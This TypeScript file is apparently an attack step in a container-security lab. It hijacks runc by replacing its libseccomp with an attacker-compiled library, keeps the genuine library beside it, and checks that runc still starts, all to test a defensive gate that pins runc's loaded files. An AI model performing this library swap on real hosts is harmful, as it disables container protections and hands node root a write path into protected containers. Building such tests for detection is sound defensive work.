/**
 * Attack (T1574.006 Hijack Execution Flow: Dynamic Linker Hijacking, for
 * T1562.001 Impair Defenses): root on the node replaces a library that
 * runc links (libseccomp) with its own. The loader maps it into every
 * runc; its constructor (native/runc-preload.c, the library of the
 * runc-preload technique) runs in `runc create` and stacks a writable
 * overlay on the read-only root the start gate just mounted, and the
 * genuine library, kept beside it under another name that the attacker's
 * library names in DT_NEEDED, still gives runc every seccomp symbol. runc's
 * file, the preload list and containerd's environment are untouched. Root
 * then writes into that upperdir from the node.
 *
 * What must catch it: the start gate, which pins every file the loader
 * maps into runc when its daemon starts, and refuses a protected container
 * once one is other bytes (lab/gates/runtime-libraries.ts).
 */
import { copyFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { elfInterpreter, parseLoaderList } from '../../gates/runtime-libraries.ts';
import type { LabNodeHandle } from '../../node/index.ts';
import { compileSharedLibrary } from '../../node/native.ts';
import { ungatedWriteAfter } from './defence-tamper.ts';
import { RUNC } from './runc-replace.ts';
import { placeUndoScript, SOURCE } from './runc-preload.ts';

/** The library replaced, by the name runc asks for. */
const LIBRARY = 'libseccomp.so.2';
/** The soname of the attacker's copy of the genuine library, in the same directory (one the loader searches). */
const GENUINE = 'libseccomp-genuine.so.2';
const EMPTY = join(import.meta.dirname, 'native', 'empty-library.c');

/** Builds the attacker's libseccomp: the runc-preload constructor, and the genuine library in DT_NEEDED. */
async function attackerLibrary(): Promise<string> {
  const genuine = await compileSharedLibrary(EMPTY, 'libseccomp-genuine-stub', { soname: GENUINE });
  return compileSharedLibrary(SOURCE, 'libseccomp-attacker', { soname: LIBRARY, links: [genuine] });
}

/** Where runc's loader finds the library now (the file, not a symlink to it). */
async function libraryFile(node: LabNodeHandle): Promise<string> {
  const interpreter = elfInterpreter(await node.readFile(RUNC));
  if (!interpreter) throw new Error(`${RUNC} on ${node.name} is a static program: it links no library`);
  const listed = parseLoaderList((await node.run([interpreter, '--list', RUNC])).stdout.toString()).find((f) => f.endsWith(`/${LIBRARY}`));
  if (!listed) throw new Error(`${RUNC} on ${node.name} does not link ${LIBRARY}: nothing to replace`);
  return (await node.run(['readlink', '-f', listed])).stdout.toString().trim();
}

export const runcLibraryReplace = ungatedWriteAfter('runc-library-replace', async ({ node }) => {
  const target = await libraryFile(node);
  const dir = dirname(target);
  const staged = join(node.shareDir, 'libseccomp-attacker.so');
  await copyFile(await attackerLibrary(), staged);
  await placeUndoScript(node);
  // The genuine bytes under the attacker's name, then its library renamed over the file runc loads.
  await node.run(['cp', '-p', target, join(dir, GENUINE)]);
  await node.run(['cp', staged, `${target}.attacker`]);
  await node.run(['mv', `${target}.attacker`, target]);
  // runc must still start with it: otherwise the step was not carried out.
  const probe = await node.exec.run([RUNC, '--version']);
  if (probe.exitCode !== 0) throw new Error(`runc no longer starts with the attacker's ${LIBRARY} (exit ${probe.exitCode}): ${probe.stderr.trim()}`);
  return {
    evidence: { replaced: target, genuineKeptAs: join(dir, GENUINE), runcVersion: probe.stdout.toString().split('\n')[0] },
    what: `${target}, which runc links, was replaced by the attacker's library (the genuine one kept as ${GENUINE})`,
  };
});
